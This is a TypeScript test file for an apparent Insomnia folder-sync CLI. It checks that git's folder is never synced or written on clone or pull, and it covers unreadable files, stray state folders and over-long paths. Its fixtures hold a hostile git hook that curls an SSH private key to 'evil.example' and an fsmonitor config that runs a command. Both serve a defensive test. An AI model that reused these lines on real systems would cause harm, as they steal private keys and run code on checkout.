/**
 * What a real workspace folder holds besides the files to sync: git's folder (Insomnia git-sync
 * users keep the workspace in a repository), a stray entry named `.insomnia-sync`, a file this user
 * may not read, a path too long for the file system. Real server and CLI processes, as two
 * machines of one account. A snapshot holding `.git/…` is made as a version before `.git` was a
 * built-in rule made it (test/helpers/git-unaware.cjs).
 */
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { folderPairs, linkedFolder, ROOT, tempDir, twoMachines, type Machine } from '../helpers/cli.js';
import { startServer, type StartedServer } from '../helpers/server-process.js';

const json = <T = any>(text: string): T => JSON.parse(text) as T;
/** runs the CLI as a version that synced `.git` like any folder */
const GIT_UNAWARE = { NODE_OPTIONS: `--require ${path.join(ROOT, 'test/helpers/git-unaware.cjs')}` };
/** how the CLI runs for the tests of unreadable files: with no right to read past a file's mode */
const user = { withoutReadOverride: true };

/** Every path under `dir` (files, and folders with their '/'), `.insomnia-sync/` left out. */
function tree(dir: string, rel = ''): string[] {
  const out: string[] = [];
  for (const e of readdirSync(path.join(dir, rel), { withFileTypes: true })) {
    const p = rel ? `${rel}/${e.name}` : e.name;
    if (p === '.insomnia-sync') continue;
    if (e.isDirectory()) out.push(`${p}/`, ...tree(dir, p));
    else out.push(p);
  }
  return out.sort();
}

/** A folder that is a git repository with a hook and remote credentials, as `git init` leaves one. */
const GIT_FILES = {
  '.git/config': '[remote "origin"]\n\turl = https://ci:glpat-SECRET@git.example.com/team/api.git\n',
  '.git/hooks/post-checkout': '#!/bin/sh\ncurl https://evil.example/$(cat ~/.ssh/id_ed25519)\n',
  '.git/HEAD': 'ref: refs/heads/main\n',
};

describe('what a workspace folder holds besides its files', () => {
  let server: StartedServer;
  let a: Machine;
  let b: Machine;
  let pair: ReturnType<typeof folderPairs>;
  let n = 0;

  beforeAll(async () => {
    server = await startServer();
    ({ a, b } = await twoMachines(server.url, 'folder-contents@example.com'));
    pair = folderPairs(a, b, 'contents');
  }, 60_000);
  afterAll(async () => {
    await server?.stop();
  });

  async function ok(m: Machine, args: string[], cwd: string, env?: Record<string, string>): Promise<{ stdout: string; stderr: string }> {
    const res = await m.run(args, { cwd, ...(env ? { env } : {}) });
    expect(res.code, `${args.join(' ')}: ${res.stderr}`).toBe(0);
    return res;
  }

  describe('git\'s folder', () => {
    it('.git (a folder at the root, a .git file in a subfolder) is never pushed, and status lists nothing for it', async () => {
      const name = `git-${++n}`;
      const { dir } = await linkedFolder(a, name, { 'api.json': '{}', ...GIT_FILES, 'sub/.git': 'gitdir: ../.git/worktrees/sub\n', 'sub/x.json': 'x' }, { push: false });
      chmodSync(path.join(dir, '.git/hooks/post-checkout'), 0o755);
      const status = json((await ok(a, ['status', '--json'], dir)).stdout);
      expect(status.changes.map((c: { path: string }) => c.path)).toEqual(['api.json', 'sub/x.json']);
      expect(status.skipped).toEqual([]);
      expect((await ok(a, ['status'], dir)).stdout).not.toContain('.git');
      const pushed = json((await ok(a, ['push', '--json'], dir)).stdout);
      expect(pushed.changes.map((c: { path: string }) => c.path)).toEqual(['api.json', 'sub/x.json']);
      // the remote has none of it: a clone, even by a version that would write it, gets none
      const bDir = path.join(tempDir('isync-contents-b-'), 'ws');
      await ok(b, ['clone', name, bDir], ROOT, GIT_UNAWARE);
      expect(tree(bDir)).toEqual(['api.json', 'sub/', 'sub/x.json']);
      // nothing changed: the no-op push finds nothing to do
      expect(json((await ok(a, ['push', '--json'], dir)).stdout).changes).toEqual([]);
    });

    it('a snapshot holding .git/… (pushed by an older version) is not written by clone, pull, restore or export; the next push drops it', async () => {
      const name = `git-${++n}`;
      // an older version pushes git's folder with the rest
      const dir = tempDir('isync-contents-old-');
      for (const [rel, text] of Object.entries({ 'api.json': 'v1', ...GIT_FILES, 'sub/.git/config': '[core]\n\tfsmonitor = touch /tmp/pwned\n' })) {
        mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
        writeFileSync(path.join(dir, rel), text);
      }
      await ok(a, ['init', '--name', name], dir, GIT_UNAWARE);
      const old = json((await ok(a, ['push', '--json'], dir, GIT_UNAWARE)).stdout);
      expect(old.changes.map((c: { path: string }) => c.path)).toContain('.git/hooks/post-checkout');
      // it really is in the snapshot: a version that writes it gets it
      const oldClone = path.join(tempDir('isync-contents-oldclone-'), 'ws');
      await ok(b, ['clone', name, oldClone], ROOT, GIT_UNAWARE);
      expect(readFileSync(path.join(oldClone, '.git/config'), 'utf8')).toContain('glpat-SECRET');

      // clone: not written, and said
      const bDir = path.join(tempDir('isync-contents-b-'), 'ws');
      const cloned = await ok(b, ['clone', name, bDir], ROOT);
      expect(tree(bDir)).toEqual(['api.json']);
      expect(cloned.stderr).toContain("warning: left out 4 file(s) of the snapshot inside git's folder (.git/, sub/.git/)");
      const clonedJson = await b.run(['clone', name, path.join(tempDir('isync-contents-b-'), 'ws'), '--json'], { cwd: ROOT });
      expect(json(clonedJson.stdout).leftOut).toEqual(['.git/HEAD', '.git/config', '.git/hooks/post-checkout', 'sub/.git/config']);

      // pull: B keeps a repository of its own; the old version's next push changes its .git too
      mkdirSync(path.join(bDir, '.git'));
      writeFileSync(path.join(bDir, '.git/config'), "B's own\n");
      writeFileSync(path.join(dir, 'api.json'), 'v2');
      writeFileSync(path.join(dir, '.git/config'), 'changed by A\n');
      await ok(a, ['push'], dir, GIT_UNAWARE);
      const pulled = await ok(b, ['pull', '--json'], bDir);
      expect(json(pulled.stdout)).toMatchObject({ written: ['api.json'], deleted: [], leftOut: expect.arrayContaining(['.git/config']) });
      expect(readFileSync(path.join(bDir, 'api.json'), 'utf8')).toBe('v2');
      expect(readFileSync(path.join(bDir, '.git/config'), 'utf8')).toBe("B's own\n");
      expect(tree(bDir)).toEqual(['.git/', '.git/config', 'api.json']);
      expect(json((await ok(b, ['status', '--json'], bDir)).stdout)).toMatchObject({ changes: [], skipped: [] });

      // restore --to and export --out: not written either
      const restored = path.join(tempDir('isync-contents-restore-'), 'r');
      const head = json((await ok(b, ['log', '--json'], bDir)).stdout).snapshots[0].id as string;
      const restoreRes = await ok(b, ['restore', head.slice(0, 12), '--to', restored], bDir);
      expect(tree(restored)).toEqual(['api.json']);
      expect(restoreRes.stderr).toContain('warning: left out');
      const exported = path.join(tempDir('isync-contents-export-'), 'e');
      await ok(b, ['export', '--out', exported], bDir);
      expect(tree(exported)).toEqual(['api.json']);

      // the current version's next push from A's folder drops them from the workspace
      const dropped = json((await ok(a, ['push', '--json', '-m', 'no .git'], dir)).stdout);
      expect(dropped.changes).toEqual(expect.arrayContaining([{ kind: 'deleted', path: '.git/config' }, { kind: 'deleted', path: 'sub/.git/config' }]));
      expect(readFileSync(path.join(dir, '.git/config'), 'utf8')).toBe('changed by A\n'); // A's own stays
      const fresh = await ok(b, ['clone', name, path.join(tempDir('isync-contents-b-'), 'ws'), '--json'], ROOT);
      expect(json(fresh.stdout).leftOut).toEqual([]);
      const oldAgain = path.join(tempDir('isync-contents-oldclone-'), 'ws');
      await ok(b, ['clone', name, oldAgain], ROOT, GIT_UNAWARE);
      expect(tree(oldAgain)).toEqual(['api.json']);
    }, 90_000);

    it('a hostile .GIT/hooks (another case, as macOS would open it) is not written either', async () => {
      const name = `git-${++n}`;
      const dir = tempDir('isync-contents-old-');
      mkdirSync(path.join(dir, '.GIT/hooks'), { recursive: true });
      writeFileSync(path.join(dir, '.GIT/hooks/post-checkout'), '#!/bin/sh\n');
      writeFileSync(path.join(dir, 'api.json'), '{}');
      await ok(a, ['init', '--name', name], dir, GIT_UNAWARE);
      await ok(a, ['push'], dir, GIT_UNAWARE);
      const bDir = path.join(tempDir('isync-contents-b-'), 'ws');
      await ok(b, ['clone', name, bDir], ROOT);
      expect(tree(bDir)).toEqual(['api.json']);
    });
  });

  it('a stray file or empty folder named .insomnia-sync in a subfolder is listed as not synced; the subfolder still syncs', async () => {
    const { aDir, bDir } = await pair({ 'top.json': 't', 'sub/one.json': '1', 'other/two.json': '2' });
    writeFileSync(path.join(aDir, 'sub', '.insomnia-sync'), '');
    mkdirSync(path.join(aDir, 'other', '.insomnia-sync'));
    writeFileSync(path.join(aDir, 'sub', 'new.json'), 'n');
    const status = json((await ok(a, ['status', '--json'], aDir)).stdout);
    expect(status).toMatchObject({ changes: [{ kind: 'added', path: 'sub/new.json' }], skipped: ['other/.insomnia-sync', 'sub/.insomnia-sync'] });
    expect((await ok(a, ['status'], aDir)).stdout).toContain('skipped (not a regular file or unsyncable name): sub/.insomnia-sync');
    const pushed = await ok(a, ['push', '--json'], aDir);
    expect(json(pushed.stdout).changes).toEqual([{ kind: 'added', path: 'sub/new.json' }]);
    expect(pushed.stderr).toBe('');
    await ok(b, ['pull'], bDir);
    expect(tree(bDir)).toEqual(['other/', 'other/two.json', 'sub/', 'sub/new.json', 'sub/one.json', 'top.json']);
  });

  describe('a file this user may not read', () => {
    it('pull goes on when the remote change does not touch it; status still stops; readable again, it is pushed', async () => {
      const { aDir, bDir } = await pair({ 'a.json': 'a1', 'k.json': 'k1' });
      writeFileSync(path.join(aDir, 'secret.json'), 'new, unreadable');
      writeFileSync(path.join(aDir, 'k.json'), 'k2, unreadable');
      chmodSync(path.join(aDir, 'secret.json'), 0o000);
      chmodSync(path.join(aDir, 'k.json'), 0o000);
      writeFileSync(path.join(bDir, 'a.json'), 'a2');
      await ok(b, ['push'], bDir);
      const pulled = await a.run(['pull', '--json'], { cwd: aDir, ...user });
      expect(pulled.code, pulled.stderr).toBe(0);
      expect(json(pulled.stdout)).toMatchObject({ written: ['a.json'], conflicts: [] });
      expect(readFileSync(path.join(aDir, 'a.json'), 'utf8')).toBe('a2');
      // status reads what changed here, so it stops as documented
      const status = await a.run(['status', '--json'], { cwd: aDir, ...user });
      expect(status.code).toBe(1);
      expect(json(status.stderr).error.code).toBe('file_unreadable');
      chmodSync(path.join(aDir, 'secret.json'), 0o644);
      chmodSync(path.join(aDir, 'k.json'), 0o644);
      const pushed = json((await ok(a, ['push', '--json'], aDir)).stdout);
      expect(pushed.changes).toEqual([
        { kind: 'modified', path: 'k.json' },
        { kind: 'added', path: 'secret.json' },
      ]);
      await ok(b, ['pull'], bDir);
      expect(readFileSync(path.join(bDir, 'k.json'), 'utf8')).toBe('k2, unreadable');
    });

    it('pull stops (exit 1, naming it) when the remote changes that very file', async () => {
      const { aDir, bDir } = await pair({ 'a.json': 'a1' });
      writeFileSync(path.join(aDir, 'secret.json'), 'mine');
      chmodSync(path.join(aDir, 'secret.json'), 0o000);
      writeFileSync(path.join(bDir, 'secret.json'), 'theirs');
      await ok(b, ['push'], bDir);
      const pulled = await a.run(['pull', '--json'], { cwd: aDir, ...user });
      expect(pulled.code).toBe(1);
      expect(json(pulled.stderr)).toEqual({ error: { code: 'file_unreadable', message: 'cannot read secret.json: permission denied' } });
      chmodSync(path.join(aDir, 'secret.json'), 0o644);
      expect(readFileSync(path.join(aDir, 'secret.json'), 'utf8')).toBe('mine');
    });
  });

  it('a clone whose file path is too long for the file system names that file and says so', async () => {
    const name = `long-${++n}`;
    // 13 folders of 250 bytes and a name of 255 (the most a file system takes): about 3.5 KB, under
    // the 4096 bytes a manifest path may hold; under a deep enough folder the folders can still be
    // made, but the file's path is over Linux's PATH_MAX
    const deep = Array.from({ length: 13 }, (_, i) => `${String(i).padStart(2, '0')}${'d'.repeat(248)}`).join('/');
    const rel = `${deep}/${'f'.repeat(250)}.json`;
    const { dir: src } = await linkedFolder(a, name, { 'a.json': '{}' }, { prefix: 'isync-contents-long-' });
    mkdirSync(path.join(src, deep), { recursive: true });
    writeFileSync(path.join(src, rel), 'deep');
    await ok(a, ['push'], src);
    let target = tempDir('isync-contents-deep-');
    while (target.length < 600) target = path.join(target, 'p'.repeat(150));
    mkdirSync(target, { recursive: true });
    const res = await b.run(['clone', name, path.join(target, 'ws'), '--json'], { cwd: ROOT });
    expect(res.code, res.stderr).toBe(1);
    expect(json(res.stderr)).toEqual({
      error: { code: 'local_write', message: `cannot write ${rel} in ${path.join(target, 'ws')}: its name or path is too long for this file system (ENAMETOOLONG)` },
    });
    const plain = await b.run(['clone', name, path.join(target, 'ws')], { cwd: ROOT });
    expect(plain.code).toBe(1);
    expect(plain.stderr).not.toContain('a place you can write');
    expect(plain.stderr).toContain('a shorter path');
    expect(existsSync(path.join(target, 'ws'))).toBe(false);
    rmSync(target, { recursive: true, force: true });
  }, 60_000);
  it("a link folder this user may not read or write (a cache restored by another user): said so, exit 1, not 'not linked' or a raw EACCES", async () => {
    const name = `owner-${++n}`;
    const { dir } = await linkedFolder(a, name, { 'api.json': '{}' });
    const state = path.join(dir, '.insomnia-sync');
    try {
      chmodSync(state, 0o000);
      const unreadable = await a.run(['status'], { cwd: dir, ...user });
      expect(unreadable.code, unreadable.stderr).toBe(1);
      expect(unreadable.stderr).toContain(`error: cannot read ${state}: permission denied`);
      expect(unreadable.stderr).not.toMatch(/not linked/);
      chmodSync(state, 0o500);
      const readOnly = await a.run(['pull'], { cwd: dir, ...user });
      expect(readOnly.code, readOnly.stderr).toBe(1);
      expect(readOnly.stderr).toContain(`error: cannot write in ${state}: permission denied`);
      expect(readOnly.stderr).not.toContain('EACCES');
    } finally {
      chmodSync(state, 0o700);
    }
    // nothing was lost: the folder still syncs once the permissions are fixed
    await ok(a, ['pull'], dir);
    expect(readFileSync(path.join(dir, 'api.json'), 'utf8')).toBe('{}');
  });

  it('init in a folder it may not write in stops before making a workspace on the server (exit 1)', async () => {
    const dir = tempDir('isync-ro-init-');
    try {
      chmodSync(dir, 0o555);
      const res = await a.run(['init', '--name', 'never-made'], { cwd: dir, ...user });
      expect(res.code, res.stderr).toBe(1);
      expect(res.stderr).toContain(`error: cannot link ${dir}: cannot write ${path.join(dir, '.insomnia-sync')} (permission denied`);
      mkdirSync(path.join(dir, '.insomnia-sync'), { mode: 0o555 });
    } finally {
      chmodSync(dir, 0o755);
    }
    // a state folder there already, but not writable: the same, said the same way
    chmodSync(path.join(dir, '.insomnia-sync'), 0o555);
    try {
      const res = await a.run(['init', '--name', 'never-made'], { cwd: dir, ...user });
      expect(res.code, res.stderr).toBe(1);
      expect(res.stderr).toContain(`error: cannot link ${dir}: cannot write ${path.join(dir, '.insomnia-sync')} (permission denied`);
    } finally {
      chmodSync(path.join(dir, '.insomnia-sync'), 0o700);
    }
    const list = json((await ok(a, ['workspace', 'list', '--json'], dir)).stdout);
    expect(JSON.stringify(list)).not.toContain('never-made');
  });

  it("another user's clone inside a workspace, or their .insomnia-sync above it, stops nothing: skipped, or walked past", async () => {
    const name = `others-${++n}`;
    const { dir } = await linkedFolder(a, name, { 'api.json': '{}', 'theirs/x.json': 'x' }, { push: false });
    // a clone by another user inside this one: its state folder is 0700 and not ours to read
    mkdirSync(path.join(dir, 'theirs/.insomnia-sync'));
    writeFileSync(path.join(dir, 'theirs/.insomnia-sync/link.json'), '{}');
    const above = tempDir('isync-above-');
    mkdirSync(path.join(above, '.insomnia-sync'));
    mkdirSync(path.join(above, 'mine'));
    try {
      chmodSync(path.join(dir, 'theirs/.insomnia-sync'), 0o000);
      chmodSync(path.join(above, '.insomnia-sync'), 0o000);
      const status = await a.run(['status', '--json'], { cwd: dir, ...user });
      expect(status.code, status.stderr).toBe(0);
      expect(json(status.stdout).skipped).toContain('theirs/');
      expect(json(status.stdout).changes.map((c: { path: string }) => c.path)).toEqual(['api.json']);
      // someone's unreadable folder above (e.g. /tmp/.insomnia-sync) does not stop commands below it
      const below = await a.run(['status'], { cwd: path.join(above, 'mine'), ...user });
      expect(below.code, below.stderr).toBe(5);
      expect(below.stderr).toMatch(/not linked/);
      const init = await a.run(['init', '--name', `${name}-below`], { cwd: path.join(above, 'mine'), ...user });
      expect(init.code, init.stderr).toBe(0);
    } finally {
      chmodSync(path.join(dir, 'theirs/.insomnia-sync'), 0o700);
      chmodSync(path.join(above, '.insomnia-sync'), 0o700);
    }
  });
});
